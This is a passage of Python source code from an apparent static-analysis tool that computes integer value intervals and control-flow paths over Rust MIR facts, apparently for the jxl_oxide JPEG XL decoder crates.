        return Iv(a.lo - b.hi, a.hi - b.lo, src, ex)
    if op in ("Mul", "MulWithOverflow", "MulUnchecked"):
        c = [a.lo * b.lo, a.lo * b.hi, a.hi * b.lo, a.hi * b.hi]
        return Iv(min(c), max(c), src, ex)
    if op in ("Shr", "ShrUnchecked") and b.lo == b.hi and 0 <= b.lo < 128 and a.lo >= 0:
        return Iv(a.lo >> b.lo, a.hi >> b.lo, src, ex)
    if op in ("Shl", "ShlUnchecked") and b.lo == b.hi and 0 <= b.lo < 64 and a.lo >= 0:
        return Iv(a.lo << b.lo, a.hi << b.lo, src, ex)
    if op == "BitAnd" and b.lo == b.hi and b.lo >= 0:
        return Iv(0, min(b.lo, a.hi) if a.lo >= 0 else b.lo, src, ex)
    if op == "BitAnd" and a.lo == a.hi and a.lo >= 0:
        return Iv(0, min(a.lo, b.hi) if b.lo >= 0 else a.lo, src, ex)
    if op == "Rem" and b.lo == b.hi and b.lo > 0 and a.lo >= 0:
        return Iv(0, min(a.hi, b.lo - 1), src, ex)
    if op == "Div" and b.lo == b.hi and b.lo > 0 and a.lo >= 0:
        return Iv(a.lo // b.lo, a.hi // b.lo, src, ex)
    return None


class FnIntervals:
    def __init__(self, fn, fields, prog=None, summaries=None):
        self.fn = fn
        self.defs = Defs(fn)
        self.fields = fields          # dict (adt, field) -> Iv or None(bottom) ; missing = unknown (top)
        self.prog = prog
        self.summaries = summaries or {}
        self.memo = {}
        self.onstack = set()

    # -- operands / places ---------------------------------------------------------------
    def op(self, o):
        k = op_const_int(o)
        if k is not None:
            return Iv(k, k)
        p = op_place(o)
        if p is None:
            return None
        return self.place(p)

    def place(self, p):
        fn = self.fn
        l = p[0]
        proj = p[1:]
        # strip `?` plumbing / tuple-of-checked-op projections on carrier locals
        fl = [e for e in proj if isinstance(e, list) and e[0] == "."]
        if fl:
            last = fl[-1]
            adt, name = last[3], last[2]
            if adt and name is not None and not str(adt).startswith(("core::", "std::", "alloc::")) and (adt, name) in self.fields:
                v = self.fields[(adt, name)]
                if v is not None and v.src:
                    v = Iv(v.lo, v.hi, v.src | frozenset(["field:%s.%s" % (adt, name)]), v.exact, None if v.exact else v.sure)
                return v
            lty = fn.local_ty(l)
            if lty.startswith(CARRIERS) or lty.startswith("("):
                # payload of Result/ControlFlow/Option, or `.0` of a checked-arithmetic tuple
                if lty.startswith("("):
                    if last[1] != 0:
                        return None
                return self.local(l)
            return None
        if any(isinstance(e, list) and e[0] in ("[]", "idx", "sub") for e in proj):
            return None
        return self.local(l)

    def local(self, l):
        if l in self.memo:
            return self.memo[l]
        fn = self.fn
        ty = fn.local_ty(l)
        pty = payload_ty(ty) if not ty.startswith("(") else self._tuple0(ty)
        t = top(pty) if pty else None
        if l in self.onstack:
            return t
        if 1 <= l <= fn.argc:
            self.memo[l] = t
            return t
        self.onstack.add(l)
        acc = None
        ok = True
        ds = [d for d in self.defs.of(l) if not fn.is_cleanup(d[0])]
        if not ds:
            ok = False
        for d in ds:
            if d[2] == "partial":
                ok = False
                break
            v = self._def(l, d, pty)
            if v is None:
                ok = False
                break
            acc = join(acc, v)
        self.onstack.discard(l)
        res = acc if ok and acc is not None else t
        if res is not None and pty and ty_range(pty):
            res = clamp_to(res, pty)
        self.memo[l] = res
        return res

    @staticmethod
    def _tuple0(ty):
        inner = ty[1:]
        t = inner.split(",")[0].strip()
        return t if t in INT_RANGE else None

    def _def(self, l, d, pty):
        fn = self.fn
        if d[2] == "assign":
            rv = d[3][2]
            k = rv[0]
            if k == "use":
                return self.op(rv[1])
            if k == "cast" and rv[1] == "IntToInt":
                v = self.op(rv[2])
                return clamp_to(v, rv[3]) if v is not None else top(rv[3])
            if k == "bin":
                a, b = self.op(rv[2]), self.op(rv[3])
                r = arith(rv[1], a, b, pty)
                if r is None:
                    return top(pty) if pty else None
                return clamp_to(r, pty) if pty else None
            if k == "un" and rv[1] == "Not" and pty == "bool":
                return Iv(0, 1)
            return top(pty) if pty else None
        if d[2] == "call":
            t = d[3]
            c = callee(t)
            if not c:
                return top(pty) if pty else None
            name = c["fn"]
            res = c.get("res", name)
            a = t[2]
            if name in ("core::result::Result::<T, E>::map", "core::option::Option::<T>::map") and len(a) == 2 and self.prog is not None:
                # `read_bits(2).map(|v| v + 1)`: evaluate the closure body on the payload's interval
                v_in = self.op(a[0])
                cl = op_local(a[1])
                g = None
                for dd in (self.defs.of(cl) if cl is not None else []):
                    if dd[2] == "assign" and dd[3][2][0] == "agg" and dd[3][2][1][0] == "closure":
                        g = self.prog.fn(dd[3][2][1][1]) or self.prog.crate(fn.crate).fns.get(dd[3][2][1][1])
                if v_in is not None and g is not None and g.argc == 2 and len(g.blocks) <= 12 and not (g.captures or []):
                    child = FnIntervals(g, self.fields, self.prog)
                    child.memo[2] = v_in
                    r = child.local(0)
                    if r is not None and (r.src or r.exact):
                        return r
            if name.startswith("core::num::<impl ") and name.split("::")[-1] in ("wrapping_add", "wrapping_sub", "wrapping_mul") and len(a) == 2 and pty:
                # the wrapping operation is the plain one whenever the exact result fits the type
                x, y = self.op(a[0]), self.op(a[1])
                opn = {"wrapping_add": "Add", "wrapping_sub": "Sub", "wrapping_mul": "Mul"}[name.split("::")[-1]]
                r = arith(opn, x, y, pty) if x is not None and y is not None else None
                if r is not None and r.within(ty_range(pty)):
                    return r
                return top(pty)
            if name == BS + "read_bool":
                return Iv(0, 1, frozenset(["read_bool"]))
            if name == BS + "read_bits" and len(a) > 1:
                n = op_const_int(a[1])
                if n is not None and n <= 64:
                    return Iv(0, 2**n - 1, frozenset(["read_bits(%d)" % n]))
                return top(pty) if pty else None
            if name == BS + "read_u32":
                ds = [u32_dist(fn, self.defs, x) for x in a[1:]]
                if ds and all(ds):
                    return Iv(min(x[0] for x in ds), max(x[1] for x in ds), frozenset(["read_u32"]))
                return top(pty) if pty else None
            if name == TRY_BRANCH and a:
                return self.op(a[0])
            if name in ("core::cmp::Ord::min", "core::cmp::min") and len(a) == 2:
                x, y = self.op(a[0]), self.op(a[1])
                if x is not None and y is not None:
                    return Iv(min(x.lo, y.lo), min(x.hi, y.hi), x.src | y.src, x.exact and y.exact)
            if name in ("core::cmp::Ord::max", "core::cmp::max") and len(a) == 2:
                x, y = self.op(a[0]), self.op(a[1])
                if x is not None and y is not None:
                    return Iv(max(x.lo, y.lo), max(x.hi, y.hi), x.src | y.src, x.exact and y.exact)
            if name == "core::cmp::Ord::clamp" and len(a) == 3:
                x, lo_, hi_ = self.op(a[0]), self.op(a[1]), self.op(a[2])
                if lo_ is not None and hi_ is not None:
                    xl = x.lo if x is not None else lo_.lo
                    xh = x.hi if x is not None else hi_.hi
                    return Iv(max(xl, lo_.lo), min(xh, hi_.hi), x.src if x is not None else frozenset(), False)
            if name in ("core::convert::From::from", "core::convert::Into::into") and len(a) == 1 and pty:
                v = self.op(a[0])
                if v is not None and v.within(ty_range(pty)):
                    return v
            if name == "core::result::Result::<T, E>::map" and len(a) == 2 and self.prog is not None:
                v = self.op(a[0])
                eff = self._closure_add(a[1])
                if v is not None and eff is not None:
                    return clamp_to(Iv(v.lo + eff, v.hi + eff, v.src, v.exact), pty) if pty else None
            if pty and pty in INT_RANGE and not a and (
                    (name == "core::default::Default::default" and res.startswith("<" + pty + " as core::default::Default>")) or
                    (name == "jxl_oxide_common::BundleDefault::default_with_context" and res.startswith("<T as jxl_oxide_common::BundleDefault<"))):
                return Iv(0, 0)     # the integer default (BundleDefault's blanket impl is T::default())
            if pty and pty in INT_RANGE and len(a) == 1 and name == "jxl_oxide_common::BundleDefault::default_with_context" \
                    and res.startswith("<T as jxl_oxide_common::BundleDefault<"):
                return Iv(0, 0)
            if res in self.summaries and self.summaries[res] is not None:
                return self.summaries[res]
            # a small workspace helper that returns an integer: evaluate its body on the arguments' intervals
            if self.prog is not None and pty and getattr(self, "depth", 0) < 2:
                g = self.prog.fn(res) or self.prog.fn(name)
                if g is not None and g is not fn and len(g.blocks) <= 40 and g.argc == len(a) and not g.path.startswith(BS):
                    child = FnIntervals(g, self.fields, self.prog)
                    child.depth = getattr(self, "depth", 0) + 1
                    for i, o in enumerate(a):
                        v = self.op(o)
                        if v is not None:
                            child.memo[i + 1] = v
                    r = child.local(0)
                    if r is not None and (r.exact or r.src) and r.within(ty_range(pty) or (r.lo, r.hi)):
                        return r
            return top(pty) if pty else None
        return None

    def _closure_add(self, o):
        """`.map(|x| x + c)` after a read: the constant c (checked add); None if the closure does anything else"""
        l = op_local(o)
        d = self.defs.single(l) if l is not None else None
        if not (d and d[2] == "assign" and d[3][2][0] == "agg" and d[3][2][1][0] == "closure"):
            return None
        cf = self.prog.fn(d[3][2][1][1])
        if cf is None:
            return None
        adds = []
        other = 0
        for blk in cf.blocks:
            if blk[2]:
                continue
            for st in blk[0]:
                if st[0] == "=" and st[2][0] == "bin":
                    if st[2][1] == "AddWithOverflow" and op_const_int(st[2][3]) is not None:
                        adds.append(op_const_int(st[2][3]))
                    else:
                        other += 1
            if blk[1][0] == "call":
                other += 1
        return adds[0] if len(adds) == 1 and other == 0 else None


def build_field_table(prog, crates, adts, validation_mod=None, rounds=6):
    """(adt, field) -> Iv for integer fields of the given ADT set; fixpoint over constructions and field stores.
    A field that is borrowed mutably, or written through a projection we cannot evaluate, is unknown (absent)."""
    fields = {}
    poisoned = set()
    int_fields = {}
    for path, a in adts.items():
        for v in a["variants"]:
            for i, fl in enumerate(v["fields"]):
                if fl[1] in INT_RANGE:
                    int_fields[(path, v["name"], i)] = fl[0]
                    fields[(path, fl[0])] = None
    fns = [f for f in prog.all_fns(crates) if f.kind != "Promoted"]
    # writes other than constructions
    for f in fns:
        for blk in f.blocks:
            if blk[2]:
                continue
            for st in blk[0]:
                if st[0] != "=":
                    continue
                if st[2][0] in ("ref", "rawptr") and st[2][1] != "shared" and st[2][1] != "fake":
                    for e in st[2][2][1:]:
                        if isinstance(e, list) and e[0] == "." and (e[3], e[2]) in fields:
                            poisoned.add((e[3], e[2]))
    for k in poisoned:
        fields.pop(k, None)
    for rnd in range(rounds):
        new = {k: None for k in fields}
        for f in fns:
            fi = None
            # a derived Clone rebuilds the value from its own fields: it cannot introduce a new value
            is_clone = f.path.startswith("<") and f.path.endswith(" as core::clone::Clone>::clone")
            for b, blk in enumerate(f.blocks):
                if blk[2]:
                    continue
                for st in blk[0]:
                    if st[0] != "=":
                        continue
                    rv = st[2]
                    if is_clone and rv[0] == "agg" and rv[1][0] == "adt" and f.path.startswith("<" + rv[1][1] + " as "):
                        continue
                    if rv[0] == "agg" and rv[1][0] == "adt" and rv[1][1] in adts:
                        path, vname = rv[1][1], rv[1][2]
                        var = [v for v in adts[path]["variants"] if v["name"] == vname]
                        if not var:
                            continue
                        for i, o in enumerate(rv[2]):
                            if i >= len(var[0]["fields"]):
                                break
                            fname, fty = var[0]["fields"][i][0], var[0]["fields"][i][1]
                            if (path, fname) not in new:
                                continue
                            if fi is None:
                                fi = FnIntervals(f, fields, prog)
                            v = fi.op(o)
                            v = refine_at(f, fi, o, b, v, validation_mod) if v is not None else None
                            if v is not None and v.exact and v.src and flows_to_comparison(f, o):
                                # validated in a way the interval domain cannot express (relation with another value,
                                # range-contains call): keep the bounds, give up exactness
                                v = Iv(v.lo, v.hi, v.src, False)
                            v = clamp_to(v, fty) if v is not None else top(fty)
                            new[(path, fname)] = join(new[(path, fname)], v)
                    # direct store into a field
                    p = st[1]
                    fl = [e for e in p[1:] if isinstance(e, list) and e[0] == "."]
                    if fl and (fl[-1][3], fl[-1][2]) in new and p[-1] is fl[-1]:
                        key = (fl[-1][3], fl[-1][2])
                        if fi is None:
                            fi = FnIntervals(f, fields, prog)
                        v = None
                        if rv[0] == "use":
                            v = fi.op(rv[1])
                        elif rv[0] == "cast" and rv[1] == "IntToInt":
                            v = fi.op(rv[2])
                        fty = None
                        for vv in adts[key[0]]["variants"]:
                            for x in vv["fields"]:
                                if x[0] == key[1]:
                                    fty = x[1]
                        v = clamp_to(v, fty) if v is not None else top(fty)
                        new[key] = join(new[key], v)
                t = blk[1]
                if t[0] == "call":
                    p = t[3]
                    fl = [e for e in p[1:] if isinstance(e, list) and e[0] == "."]
                    if fl and (fl[-1][3], fl[-1][2]) in new:
                        key = (fl[-1][3], fl[-1][2])
                        fty = [x[1] for vv in adts[key[0]]["variants"] for x in vv["fields"] if x[0] == key[1]][0]
                        new[key] = join(new[key], top(fty))
        if new == fields:
            break
        fields = new
    else:
        # no fixpoint within the bound: forget provenance-less growth by widening to the type range
        for k, v in list(fields.items()):
            if v is not None and new.get(k) != v:
                fty = [x[1] for vv in adts[k[0]]["variants"] for x in vv["fields"] if x[0] == k[1]][0]
                fields[k] = top(fty)
    return fields


def refine_at(fn, fi, o, bb, v, validation_mod):
    """narrow v by compare->error checks on the same value that dominate block bb (constant bounds only)"""
    if validation_mod is None or v is None:
        return v
    l = op_local(o)
    if l is None:
        return v
    cs = fn._cache.get("val_checks")
    if cs is None:
        try:
            cs = validation_mod.checks(fn)
        except Exception:
            cs = []
        fn._cache["val_checks"] = cs
    if not cs:
        return v
    al = value_class(fn, l)
    lo, hi = v.lo, v.hi
    for c in cs:
        if not fn.dominates(c["bb"], bb):
            continue
        sl = c.get("subject_local")
        if sl is None or sl not in al:
            continue
        k = c["other"] if isinstance(c["other"], int) else None
        if k is None:
            continue
        op = c["op"]
        # reject `subject op k`
        if op == ">":
            hi = min(hi, k)
        elif op == ">=":
            hi = min(hi, k - 1)
        elif op == "<":
            lo = max(lo, k)
        elif op == "<=":
            lo = max(lo, k + 1)
        elif op == "==" and k == lo:
            lo = lo + 1
        elif op == "==" and k == hi:
            hi = hi - 1
    if lo > hi:
        return v
    return Iv(lo, hi, v.src, v.exact)


CMP_OPS = ("Lt", "Le", "Gt", "Ge", "Eq", "Ne")
CMP_CALL_TAILS = ("::contains", "::cmp", "::partial_cmp", "::lt", "::le", "::gt", "::ge", "::eq", "::ne", "::min", "::max", "::clamp")
ARITH_CALL_MARKS = ("wrapping_", "checked_", "saturating_", "overflowing_", "::abs_diff", "::pow", "::from", "::into")


def flows_to_comparison(fn, o):
    """does the operand's value (or anything computed from it in this function) take part in a comparison?"""
    l = op_local(o)
    if l is None:
        return False
    cache = fn._cache.setdefault("cmp_flow", {})
    if l in cache:
        return cache[l]
    tainted = set(value_class(fn, l))
    own = set(tainted)          # the value itself (copies, casts), as opposed to what is computed from it
    hit = False
    for _ in range(8):
        grew = False
        for blk in fn.blocks:
            if blk[2]:
                continue
            for st in blk[0]:
                if st[0] != "=":
                    continue
                rv = st[2]
                ops = []
                if rv[0] in ("use",):
                    ops = [rv[1]]
                elif rv[0] == "cast":
                    ops = [rv[2]]
                elif rv[0] == "bin":
                    ops = [rv[2], rv[3]]
                elif rv[0] == "un":
                    ops = [rv[2]]
                elif rv[0] == "ref":
                    ops = [["c", rv[2]]]
                elif rv[0] == "agg":
                    ops = list(rv[2]) if rv[1][0] in ("tuple", "array") else []
                used = any((op_place(x) is not None and op_place(x)[0] in tainted) for x in ops)
                if not used:
                    continue
                if rv[0] == "bin" and rv[1] in CMP_OPS:
                    # a comparison with a constant is either a validation check (refine_at narrows by it when it dominates) or a
                    # mere branch (which bounds nothing); only a relation with another value is beyond the interval domain
                    mine, other = (rv[2], rv[3]) if (op_place(rv[2]) is not None and op_place(rv[2])[0] in tainted) else (rv[3], rv[2])
                    direct = op_place(mine) is not None and op_place(mine)[0] in own
                    if not (direct and op_const_int(other) is not None):
                        hit = True
                if st[1][0] not in tainted:
                    tainted.add(st[1][0])
                    grew = True
            t = blk[1]
            if t[0] == "call":
                c = callee(t)
                used = any((op_place(x) is not None and op_place(x)[0] in tainted) for x in t[2])
                if not used or not c:
                    continue
                nm = c["fn"]
                if nm.endswith(CMP_CALL_TAILS) or c.get("res", "").endswith(CMP_CALL_TAILS):
                    hit = True
                if nm == TRY_BRANCH or any(m in nm for m in ARITH_CALL_MARKS):
                    if t[3][0] not in tainted:
                        tainted.add(t[3][0])
                        grew = True
        if not grew or hit:
            break
    cache[l] = hit
    return hit


def value_class(fn, l):
    """locals holding the same value as l: connected component over whole-local copies/moves, integer casts and `?`"""
    comp = fn._cache.get("vclass")
    if comp is None:
        parent = {}

        def find(x):
            parent.setdefault(x, x)
            while parent[x] != x:
                parent[x] = parent[parent[x]]
                x = parent[x]
            return x

        for blk in fn.blocks:
            if blk[2]:
                continue
            for st in blk[0]:
                if st[0] != "=" or len(st[1]) != 1:
                    continue
                rv = st[2]
                o = rv[1] if rv[0] == "use" else (rv[2] if rv[0] == "cast" and rv[1] == "IntToInt" else None)
                if o is None:
                    continue
                p = op_place(o)
                if p is None:
                    continue
                # whole local, or payload / `.0` of a carrier
                if len(p) == 1 or fn.local_ty(p[0]).startswith(CARRIERS) or fn.local_ty(p[0]).startswith("("):
                    parent[find(st[1][0])] = find(p[0])
            t = blk[1]
            if t[0] == "call" and len(t[3]) == 1 and t[2]:
                c = callee(t)
                if c and c["fn"] == TRY_BRANCH:
                    p = op_place(t[2][0])
                    if p is not None:
                        parent[find(t[3][0])] = find(p[0])
        comp = {}
        for x in list(parent):
            comp.setdefault(find(x), set()).add(x)
        comp = {"_find": find, "_sets": comp}
        fn._cache["vclass"] = comp
    r = comp["_find"](l)
    return comp["_sets"].get(r, {l})

"""Intraprocedural helpers over the MIR facts: definitions, alias closure, access paths,
edge-labelled path search, small constant-propagating path explorer."""
from collections import deque

from .facts import callee, op_place, op_local, op_const_int

DEREF_FNS = (
    "core::ops::deref::DerefMut::deref_mut", "core::ops::deref::Deref::deref",
    "core::convert::AsRef::as_ref", "core::convert::AsMut::as_mut",
    "core::borrow::Borrow::borrow", "core::borrow::BorrowMut::borrow_mut",
)
TRY_BRANCH = "core::ops::try_trait::Try::branch"
FROM_RESIDUAL = "core::ops::try_trait::FromResidual::from_residual"


class Defs:
    """definitions of every local: list of (bb, idx, kind, payload)
    kind 'assign' payload = rvalue (only whole-local assignments), kind 'call' payload = terminator,
    partial writes (projections) are recorded as kind 'partial'."""

    def __init__(self, fn):
        self.fn = fn
        self.d = {}
        for b, blk in enumerate(fn.blocks):
            for i, st in enumerate(blk[0]):
                if st[0] == "=":
                    p = st[1]
                    kind = "assign" if len(p) == 1 else "partial"
                    self.d.setdefault(p[0], []).append((b, i, kind, st))
                elif st[0] == "setdiscr":
                    self.d.setdefault(st[1][0], []).append((b, i, "partial", st))
            t = blk[1]
            if t[0] == "call":
                p = t[3]
                kind = "call" if len(p) == 1 else "partial"
                self.d.setdefault(p[0], []).append((b, "term", kind, t))

    def of(self, l):
        return self.d.get(l, [])

    def single(self, l):
        """the unique whole-local definition of l (ignoring cleanup-block duplicates), or None"""
        ds = [x for x in self.of(l) if x[2] in ("assign", "call") and not self.fn.is_cleanup(x[0])]
        if len(ds) == 1:
            return ds[0]
        # identical re-definitions (e.g. drop-elaboration copies) count as one
        if ds and all(x[3][2] == ds[0][3][2] for x in ds if x[2] == "assign") and all(x[2] == "assign" for x in ds):
            return ds[0]
        return None


def access_path(fn, defs, l, depth=0, stop=None):
    """Canonical access path of what local l refers to / holds, following refs, reborrows,
    moves/copies and Deref-like calls:   returns (root_local, (field names...)) or None.
    Deref steps are dropped (a &T and the T it points to have the same path)."""
    if depth > 40:
        return None
    if stop is not None and stop(l):
        return (l, ())
    if l < 1 + fn.argc and l >= 1:
        # an argument is a root unless it is re-assigned
        if not [x for x in defs.of(l) if x[2] in ("assign", "call")]:
            return (l, ())
    d = defs.single(l)
    if d is None:
        return (l, ())
    if d[2] == "assign":
        rv = d[3][2]
        k = rv[0]
        if k in ("ref", "rawptr"):
            return place_path(fn, defs, rv[2], depth + 1, stop)
        if k == "use":
            p = op_place(rv[1])
            if p is not None:
                return place_path(fn, defs, p, depth + 1, stop)
        if k == "cast":
            p = op_place(rv[2])
            if p is not None:
                return place_path(fn, defs, p, depth + 1, stop)
        return (l, ())
    if d[2] == "call":
        t = d[3]
        c = callee(t)
        if c and c["fn"] in DEREF_FNS and t[2]:
            p = op_place(t[2][0])
            if p is not None:
                return place_path(fn, defs, p, depth + 1, stop)
        return (l, ())
    return (l, ())


def place_path(fn, defs, p, depth=0, stop=None):
    base = access_path(fn, defs, p[0], depth + 1, stop)
    if base is None:
        return None
    root, fields = base
    fl = list(fields)
    for e in p[1:]:
        if isinstance(e, list):
            if e[0] == ".":
                fl.append(e[2] if e[2] is not None else str(e[1]))
            elif e[0] == "as":
                fl.append("as " + e[1])
            elif e[0] in ("[]", "[c]", "[..]"):
                fl.append("[]")
    return (root, tuple(fl))


def alias_closure(fn, seeds, through_try=True, through_fields=True, extra_calls=()):
    """forward closure of locals that (may) hold the value in `seeds` or a part/wrapper-payload of it:
    moves/copies, casts, Try::branch results, downcast/field extraction."""
    s = set(seeds)
    changed = True
    while changed:
        changed = False
        for b, blk in enumerate(fn.blocks):
            for st in blk[0]:
                if st[0] != "=":
                    continue
                dst = st[1][0]
                rv = st[2]
                src = None
                if rv[0] == "use":
                    src = op_place(rv[1])
                elif rv[0] == "cast":
                    src = op_place(rv[2])
                elif rv[0] == "agg" and len(st[1]) == 1:
                    for o in rv[2]:
                        p = op_place(o)
                        if p is not None and p[0] in s and dst not in s:
                            s.add(dst)
                            changed = True
                    continue
                if src is None:
                    continue
                if src[0] in s and dst not in s:
                    if len(src) > 1 and not through_fields:
                        continue
                    s.add(dst)
                    changed = True
            t = blk[1]
            if t[0] == "call":
                c = callee(t)
                if c and ((through_try and c["fn"] in (TRY_BRANCH, FROM_RESIDUAL)) or c["fn"] in extra_calls):
                    for a in t[2]:
                        p = op_place(a)
                        if p is not None and p[0] in s and t[3][0] not in s:
                            s.add(t[3][0])
                            changed = True
    return s


def succ_edges(fn, bb):
    """(succ, label) pairs on normal edges; label is the switch value ('otherwise' for the default) or None"""
    t = fn.term(bb)
    if t[0] == "switch":
        out = [(x[1], x[0]) for x in t[2]]
        out.append((t[3], "otherwise"))
        return out
    return [(s, None) for s in fn.succs(bb)]


def find_path_edges(fn, starts, is_goal, avoid_block=None, avoid_edge=None):
    """BFS from start blocks; a start block's own terminator edges are followed.
    avoid_block(b): do not enter b.  avoid_edge(b, s, label): do not follow that edge.
    Returns list of blocks or None."""
    prev = {}
    dq = deque()
    for s in starts:
        if s not in prev:
            prev[s] = None
            dq.append(s)
    while dq:
        b = dq.popleft()
        if is_goal(b):
            path = []
            while b is not None:
                path.append(b)
                b = prev[b]
            return list(reversed(path))
        for s, lab in succ_edges(fn, b):
            if s in prev:
                continue
            if avoid_edge is not None and avoid_edge(b, s, lab):
                continue
            if avoid_block is not None and avoid_block(s):
                continue
            prev[s] = b
            dq.append(s)
    return None


def switch_subject(fn, defs, bb):
    """For a switch terminator: describe what is switched on.
    Returns ('discr', place) if the operand is the discriminant of a place,
            ('local', l) if a plain local, or None."""
    t = fn.term(bb)
    if t[0] != "switch":
        return None
    l = op_local(t[1])
    if l is None:
        return None
    # look for the definition in the same block first (the common shape), then unique def
    for st in reversed(fn.stmts(bb)):
        if st[0] == "=" and st[1] == [l]:
            if st[2][0] == "discr":
                return ("discr", st[2][1])
            return ("local", l)
    d = defs.single(l)
    if d and d[2] == "assign" and d[3][2][0] == "discr":
        return ("discr", d[3][2][1])
    return ("local", l)


def ret_blocks(fn):
    return [b for b in range(len(fn.blocks)) if fn.term(b)[0] == "ret"]


def calls_to(fn, names, resolved=True):
    """blocks whose terminator calls one of `names` (matched against fn path and resolved path; a name
    ending with '*' is a prefix match; a name starting with '::' is a suffix match)"""
    out = []
    for b, t in fn.calls():
        c = callee(t)
        if not c:
            continue
        cands = [c["fn"]]
        if resolved and "res" in c:
            cands.append(c["res"])
        if any(name_match(n, x) for n in names for x in cands):
            out.append(b)
    return out


def name_match(pat, name):
    if pat.endswith("*"):
        return name.startswith(pat[:-1])
    if pat.startswith("::"):
        return name.endswith(pat) or name == pat[2:]
    return name == pat


def strip_generics(path):
    """jxl_render::state::FrameRenderHandle::<S>::run -> jxl_render::state::FrameRenderHandle::run
    (only turbofish-style `::<...>` segments are removed; `<T as Trait>::f` heads are kept)"""
    out = []
    i = 0
    n = len(path)
    while i < n:
        if path.startswith("::<", i):
            depth = 0
            j = i + 2
            while j < n:
                if path[j] == "<":
                    depth += 1
                elif path[j] == ">":
                    depth -= 1
                    if depth == 0:
                        break
                j += 1
            i = j + 1
            continue
        out.append(path[i])
        i += 1
    return "".join(out)


def const_explore(fn, start_bb, env, on_block, assume_discr=None, limit=20000):
    """Path exploration with constant propagation over bool/int locals assigned constants.
    env: dict local -> int.  assume_discr(place) -> int or None fixes the discriminant of a place.
    on_block(bb, env) is called for every visited (bb, env); return False to stop descending.
    Follows a switch only along edges consistent with known values."""
    seen = set()
    st = [(start_bb, tuple(sorted(env.items())))]
    n = 0
    while st:
        bb, envt = st.pop()
        if (bb, envt) in seen:
            continue
        seen.add((bb, envt))
        n += 1
        if n > limit:
            raise RuntimeError("const_explore: state limit exceeded in %s" % fn.path)
        e = dict(envt)
        if on_block(bb, e) is False:
            continue
        for s in fn.stmts(bb):
            if s[0] != "=" or len(s[1]) != 1:
                continue
            dst = s[1][0]
            rv = s[2]
            val = None
            if rv[0] == "use":
                val = op_const_int(rv[1])
                if val is None:
                    l = op_local(rv[1])
                    if l is not None and l in e:
                        val = e[l]
            elif rv[0] == "discr" and assume_discr is not None:
                val = assume_discr(rv[1])
            elif rv[0] == "un" and rv[1] == "Not":
                l = op_local(rv[2])
                if l is not None and l in e:
                    val = 0 if e[l] else 1
            if val is None:
                e.pop(dst, None)
            else:
                e[dst] = val
        t = fn.term(bb)
        if t[0] == "switch":
            l = op_local(t[1])
            v = e.get(l) if l is not None else op_const_int(t[1])
            if v is not None:
                tgt = t[3]
                for val, x in t[2]:
                    if int(val) == v:
                        tgt = x
                nxt = [tgt]
            else:
                nxt = fn.succs(bb)
        else:
            if t[0] == "call":
                e.pop(t[3][0], None)
            nxt = fn.succs(bb)
        et = tuple(sorted(e.items()))
        for s in nxt:
            st.append((s, et))
    return n


def local_uses(fn):
    """local -> number of reads (operands, refs, projections bases) on non-cleanup blocks; drops are not uses"""
    uses = {}

    def place(p, base_only=False):
        uses[p[0]] = uses.get(p[0], 0) + 1
        for e in p[1:]:
            if isinstance(e, list) and e[0] == "[]":
                uses[e[1]] = uses.get(e[1], 0) + 1

    def operand(o):
        if o[0] in ("c", "m"):
            place(o[1])

    for b, blk in enumerate(fn.blocks):
        if fn.is_cleanup(b):
            continue
        for st in blk[0]:
            if st[0] != "=":
                continue
            if len(st[1]) > 1:
                place(st[1])
            rv = st[2]
            k = rv[0]
            if k in ("use", "repeat"):
                operand(rv[1])
            elif k in ("ref", "rawptr"):
                place(rv[2])
            elif k == "cast":
                operand(rv[2])
            elif k == "bin":
                operand(rv[2])
                operand(rv[3])
            elif k == "un":
                operand(rv[2])
            elif k == "discr":
                place(rv[1])
            elif k == "agg":
                for o in rv[2]:
                    operand(o)
        t = blk[1]
        if t[0] == "call":
            operand(t[1])
            for a in t[2]:
                operand(a)
            if len(t[3]) > 1:
                place(t[3])
        elif t[0] in ("switch", "assert"):
            operand(t[1])
    return uses


def const_walk(fn, start_bb, env, on_term, place_value=None, const_param=None, discr=None, limit=20000):
    """Path exploration with integer constant propagation including arithmetic, comparisons and integer casts (a superset of
    const_explore).  env: dict local -> int.  Hooks: place_value(place) gives the value of a projected place (a header field fixed by
    the caller); const_param[name] the value of a const generic parameter; discr(place) the discriminant of a place.
    on_term(bb, terminator, env, val_of) is called after the statements of each visited block (env may be modified; return False to stop).
    Switches are followed only along edges consistent with known values; unwinding edges are not followed."""
    from .facts import op_const
    seen = set()
    st = [(start_bb, tuple(sorted(env.items())))]
    n = 0

    def val_of(o, e):
        k = op_const_int(o)
        if k is not None:
            return k
        kk = op_const(o)
        if kk is not None:
            if const_param and kk.get("s") in const_param and "v" not in kk:
                return const_param[kk["s"]]
            return None
        p = op_place(o)
        if p is None:
            return None
        if len(p) == 1:
            return e.get(p[0])
        if len(p) == 2 and isinstance(p[1], list) and p[1][0] == "." and ("ovf", p[0]) in e:
            return e[("ovf", p[0])] if p[1][1] == 0 else 0
        return place_value(p) if place_value is not None else None

    while st:
        bb, envt = st.pop()
        if (bb, envt) in seen:
            continue
        seen.add((bb, envt))
        n += 1
        if n > limit:
            raise RuntimeError("const_walk: state limit exceeded in %s" % fn.path)
        e = dict(envt)
        for s in fn.stmts(bb):
            if s[0] != "=" or len(s[1]) != 1:
                continue
            dst = s[1][0]
            rv = s[2]
            val = None
            e.pop(("ovf", dst), None)
            if rv[0] == "use":
                val = val_of(rv[1], e)
            elif rv[0] == "cast" and rv[1] == "IntToInt":
                val = val_of(rv[2], e)
            elif rv[0] == "discr" and discr is not None:
                val = discr(rv[1])
            elif rv[0] == "un" and rv[1] == "Not":
                x = val_of(rv[2], e)
                val = None if x is None else (0 if x else 1)
            elif rv[0] == "bin":
                a, b = val_of(rv[2], e), val_of(rv[3], e)
                op = rv[1]
                base = op.replace("WithOverflow", "").replace("Unchecked", "")
                if a is not None and b is not None:
                    r = None
                    if base == "Add":
                        r = a + b
                    elif base == "Sub":
                        r = a - b
                    elif base == "Mul":
                        r = a * b
                    elif base == "Div" and b != 0 and a >= 0 and b > 0:
                        r = a // b
                    elif base == "Rem" and b != 0 and a >= 0 and b > 0:
                        r = a % b
                    elif base in ("Eq", "Ne", "Lt", "Le", "Gt", "Ge"):
                        r = int({"Eq": a == b, "Ne": a != b, "Lt": a < b, "Le": a <= b, "Gt": a > b, "Ge": a >= b}[base])
                    elif base == "Shl" and 0 <= b < 64:
                        r = a << b
                    elif base == "Shr" and 0 <= b < 64:
                        r = a >> b
                    elif base == "BitAnd":
                        r = a & b
                    elif base == "BitOr":
                        r = a | b
                    if r is not None and op.endswith("WithOverflow"):
